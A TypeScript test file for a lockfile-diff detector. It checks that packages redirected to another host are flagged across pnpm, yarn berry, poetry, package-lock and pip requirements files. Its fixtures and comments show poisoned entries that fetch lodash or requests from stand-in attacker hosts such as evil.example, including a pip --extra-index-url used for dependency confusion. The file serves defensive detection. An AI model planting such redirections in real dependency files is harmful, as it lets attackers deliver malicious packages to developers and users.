import { describe, expect, it } from 'vitest';
import { diffLockfiles } from '../../../src-main/domain/supply/lockDiff';
import { parseLockfile } from '../../../src-main/domain/supply/lockfiles/parseLockfile';

// Lockfile poisoning: the same package at the same version, its tarball now fetched from the
// attacker's host. pnpm and yarn berry write no URL for registry packages, so the baseline has
// none to compare with; the registry they imply is the host to compare against.
const pnpm = (resolution: string) =>
  parseLockfile(
    '/tmp/app/pnpm-lock.yaml',
    `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      lodash:\n        specifier: ^4.17.21\n        version: 4.17.21\n\npackages:\n\n  lodash@4.17.21:\n    resolution: {${resolution}}\n\nsnapshots:\n\n  lodash@4.17.21: {}\n`,
  );
const berry = (key: string, resolution: string) =>
  parseLockfile('/tmp/app/yarn.lock', `__metadata:\n  version: 8\n  cacheKey: 10\n\n"${key}":\n  version: 4.17.21\n  resolution: "${resolution}"\n  checksum: 10/aaaa\n  languageName: node\n  linkType: hard\n`);

const hostSuspicions = (diff: ReturnType<typeof diffLockfiles>) => diff.suspicions.filter((suspicion) => suspicion.kind === 'resolved-host-changed').map((suspicion) => suspicion.name);

describe('lockdiff: a registry package now fetched from another host', () => {
  it('flags a pnpm package whose resolution gains a tarball on another host', () => {
    const diff = diffLockfiles(pnpm('integrity: sha512-aaaa'), pnpm('integrity: sha512-aaaa, tarball: https://evil.example/lodash-4.17.21.tgz'));
    expect(hostSuspicions(diff)).toEqual(['lodash']);
  });

  it('flags a yarn berry package whose resolution becomes a URL on another host', () => {
    const diff = diffLockfiles(berry('lodash@npm:^4.17.21', 'lodash@npm:4.17.21'), berry('lodash@https://evil.example/lodash-4.17.21.tgz', 'lodash@https://evil.example/lodash-4.17.21.tgz'));
    expect(hostSuspicions(diff)).toEqual(['lodash']);
  });

  it('flags a poetry package now taken from a source on another host', () => {
    const poetry = (source: string) =>
      parseLockfile(
        '/tmp/app/poetry.lock',
        `[[package]]\nname = "requests"\nversion = "2.31.0"\ndescription = ""\noptional = false\npython-versions = ">=3.7"\nfiles = [\n    {file = "requests-2.31.0-py3-none-any.whl", hash = "sha256:aaaa"},\n]\n${source}\n[metadata]\nlock-version = "2.0"\npython-versions = "^3.11"\ncontent-hash = "x"\n`,
      );
    const diff = diffLockfiles(poetry(''), poetry('\n[package.source]\ntype = "legacy"\nurl = "https://pypi.evil.example/simple"\nreference = "evil"\n'));
    expect(hostSuspicions(diff)).toEqual(['requests']);
  });

  it('flags a package-lock resolved URL moved to another host (a defence that holds)', () => {
    const lock = (resolved: string) =>
      parseLockfile('/tmp/app/package-lock.json', JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { '': { name: 'app', dependencies: { lodash: '^4' } }, 'node_modules/lodash': { version: '4.17.21', resolved, integrity: 'sha512-aaaa' } } }));
    const diff = diffLockfiles(lock('https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz'), lock('https://evil.example/lodash-4.17.21.tgz'));
    expect(hostSuspicions(diff)).toEqual(['lodash']);
  });
});

describe('lockdiff: requirements.txt moved to another package index', () => {
  // `--extra-index-url` pointing at an attacker's index is the dependency-confusion move for pip:
  // every pinned package may now come from there, and nothing else in the file changes.
  it('flags an index URL added since the baseline', () => {
    const before = parseLockfile('/tmp/a/requirements.txt', 'requests==2.31.0\n');
    const after = parseLockfile('/tmp/b/requirements.txt', '--extra-index-url https://pypi.evil.example/simple\nrequests==2.31.0\n');
    expect(diffLockfiles(before, after).suspicions.map((suspicion) => suspicion.kind)).toContain('resolved-host-changed');
  });
});
